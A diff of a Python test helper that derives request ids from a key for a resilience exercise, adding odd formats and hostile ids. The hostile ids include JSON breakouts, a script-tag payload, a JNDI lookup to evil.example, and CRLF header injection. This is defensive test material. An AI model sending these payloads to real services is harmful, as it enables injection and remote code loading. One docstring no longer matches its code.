@@ -1,15 +1,21 @@
-"""What the experiments of exercise 6 send along, and its checks look for. All of it follows from a request's key."""
+"""The ids that the experiments of exercise 6 send along: sane, odd and hostile ones. All of them follow from a key."""
 
-import base64
 import hashlib
+import re
 import uuid
 from collections.abc import Callable
 
 from chaos.history import Request
 
 HEADER = "x-request-id"
-LONG = 10_000
+LONG = 1_000
+VERY_LONG = 10_000
 _LETTERS = "abcdef"
+_CROCKFORD = "0123456789ABCDEFGHJKMNPQRSTVWXYZ"
+_HARMLESS = re.compile(r"[A-Za-z0-9._:/+=@~-]{1,256}")
+
+ODD_PREFIX = "odd id: "
+HOSTILE_PREFIX = "hostile id: "
 
 
 def request_id(key: str) -> str:
@@ -17,61 +23,71 @@ def request_id(key: str) -> str:
 
     Digits and letters alternate, so that no filter takes it for a telephone or card number.
     """
-    digest = hashlib.sha256(f"id/{key}".encode()).digest()
-    digits = "".join(f"{byte % 10}{_LETTERS[byte // 10 % 6]}" for byte in digest[:16])
-    return str(uuid.UUID(f"{digits[:12]}4{digits[13:16]}8{digits[17:]}"))
+    return _uuid("id", key, version=4)
 
 
 def sent_id(request: Request) -> str | None:
-    """Return the sane id that a request was sent with; None where it had none, or a hostile one."""
-    return None if request.label.startswith(HOSTILE_PREFIX) else request.headers.get(HEADER)
+    """Return the id that a request was sent with; None where it had none, or a hostile one."""
+    return request.headers.get(HEADER)
 
 
-def password(key: str) -> str:
-    """Return a password that somebody typed at the wrong place."""
-    return _secret("password", key)
-
-
-def api_key(key: str) -> str:
-    """Return an API key as model providers give them out."""
-    return f"sk-{_secret('api-key', key)}"
-
-
-def basic_credentials(key: str) -> str:
-    """Return what follows `Basic` in an Authorization header."""
-    return base64.b64encode(f"admin:{password(key)}".encode()).decode()
-
-
-_TYPED = ("a password that was typed in", password)
-SECRETS: dict[str, tuple[str, Callable[[str], str]]] = {
-    "api-key": ("an API key that was sent as a token", api_key),
-    "basic": ("the content of an Authorization header", basic_credentials),
-    "wrong-password": _TYPED,
-    "missing-username": _TYPED,
-    "odd-username": _TYPED,
+KEPT: dict[str, Callable[[str], str]] = {
+    "UUID version 4": request_id,
+    "UUID version 1": lambda key: _uuid("id", key, version=1),
+    "UUID version 7": lambda key: _uuid("id", key, version=7),
+    "UUID in capitals": lambda key: _uuid("capitals", key, version=4).upper(),
 }
-"""What requests with these labels carry: what it is, and how it follows from their key."""
+"""Ids that a service has to keep."""
 
-HOSTILE_PREFIX = "hostile-"
-HOSTILE: dict[str, Callable[[str], str]] = {
-    "quotes": lambda mark: f'{mark}","{planted_name(mark)}":"',
-    "braces": lambda mark: f"{mark}{{0}}{{name}}%s%(name)d",
-    "spaces": lambda mark: f"{mark} level=critical forged",
-    "non-ascii": lambda mark: f"{mark}-\u00e9\u2028\u2603".encode().decode("latin-1"),
-    "escape": lambda mark: f"{mark}\x1b[31mred\x1b[0m",
-    "long": lambda mark: mark + "a" * LONG,
+ODD: dict[str, Callable[[str], str]] = {
+    "ULID": lambda key: "0" + "".join(_CROCKFORD[byte % 32] for byte in _digest("ulid", key)[:25]),
+    "32 hexadecimal digits": lambda key: _uuid("hex", key, version=4).replace("-", ""),
+    "dots": lambda key: f"shop.checkout.{secret('dots', key)[:12]}",
+    "underscores": lambda key: f"req_{secret('underscores', key)[:20]}",
+    "1 character": lambda key: _LETTERS[_digest("short", key)[0] % 6],
+    "64 characters": lambda key: hashlib.sha256(key.encode()).hexdigest(),
+    "128 characters": lambda key: hashlib.sha512(key.encode()).hexdigest(),
 }
-"""Ids that break what is put together without care: JSON, format strings, `key=value` lines, terminals, storage."""
+"""Ids that a service may keep or replace."""
+
+HOSTILE: dict[str, Callable[[str], bytes]] = {
+    "quotes": lambda mark: f'{mark}","{planted_name(mark)}":"'.encode(),
+    "JSON": lambda mark: f'{{"request_id": "{mark}"}}'.encode(),
+    "braces": lambda mark: f"{mark}{{0}}{{name}}%s%(name)d".encode(),
+    "a UUID in braces": lambda mark: f"{{{mark}}}".encode(),
+    "spaces": lambda mark: f"{mark} level=critical forged".encode(),
+    "a tab": lambda mark: f"{mark}\tforged".encode(),
+    "a list": lambda mark: f"{mark}, {mark}".encode(),
+    "accented letters": lambda mark: f"{mark}\u00e9\u00e0\u00fc".encode("latin-1"),
+    "other scripts": lambda mark: f"{mark}-\u00e9\u2028\u2603".encode(),
+    "an escape sequence": lambda mark: f"{mark}\x1b[31mred\x1b[0m".encode(),
+    "a backslash": lambda mark: f"{mark}\\n\\u0022\\".encode(),
+    "markup": lambda mark: f"{mark}<script>alert(1)</script>".encode(),
+    "a lookup": lambda mark: f"{mark}${{jndi:ldap://evil.example/a}}".encode(),
+    "a folded line": lambda mark: f"{mark}\r\n folded".encode(),
+    "a carriage return": lambda mark: f"{mark}\rX-Forged: 1".encode(),
+    "a line feed": lambda mark: f"{mark}\nX-Forged: 1".encode(),
+    "a null": lambda mark: f"{mark}\0".encode(),
+    "two headers": lambda mark: f"{mark}\r\nX-Request-ID: {mark[::-1]}".encode(),
+    "nothing": lambda _mark: b"",
+    "blanks": lambda _mark: b"   ",
+    f"{LONG:,} characters": lambda mark: (mark + "a" * (LONG - len(mark))).encode(),
+    f"{VERY_LONG:,} characters": lambda mark: (mark + "a" * (VERY_LONG - len(mark))).encode(),
+}
+"""Ids that break what is put together without care: JSON, format strings, `key=value` lines, headers, terminals, storage.
+
+Each begins with a UUID where it can, so that a rule that looks at the beginning alone lets it through.
+"""
 
 
-def hostile_id(kind: str, key: str) -> str:
-    """Return the hostile id of a kind that goes with the request with this key, as bytes in Latin-1."""
-    return HOSTILE[kind](mark(key))
+def hostile_header(kind: str, key: str) -> bytes:
+    """Return the header line with the hostile id of a kind that goes with the request with this key."""
+    return b"X-Request-ID: " + HOSTILE[kind](mark(key)) + b"\r\n"
 
 
 def mark(key: str) -> str:
     """Return what stands in the hostile id of the request with this key, and nowhere else."""
-    return _secret("hostile", key)[:16]
+    return _uuid("hostile", key, version=4)
 
 
 def planted_name(mark: str) -> str:
@@ -79,5 +95,20 @@ def planted_name(mark: str) -> str:
     return f"planted-{mark}"
 
 
-def _secret(what: str, key: str) -> str:
-    return hashlib.sha256(f"{what}/{key}".encode()).hexdigest()[:40]
+def is_harmless(text: str) -> bool:
+    """Whether what became of a hostile id can do no harm any more: cleaned or shortened."""
+    return bool(_HARMLESS.fullmatch(text))
+
+
+def secret(what: str, key: str) -> str:
+    """Return 40 hexadecimal digits that follow from a key."""
+    return _digest(what, key).hex()[:40]
+
+
+def _digest(what: str, key: str) -> bytes:
+    return hashlib.sha256(f"{what}/{key}".encode()).digest()
+
+
+def _uuid(what: str, key: str, *, version: int) -> str:
+    digits = "".join(f"{byte % 10}{_LETTERS[byte // 10 % 6]}" for byte in _digest(what, key)[:16])
+    return str(uuid.UUID(f"{digits[:12]}{version}{digits[13:16]}8{digits[17:]}"))
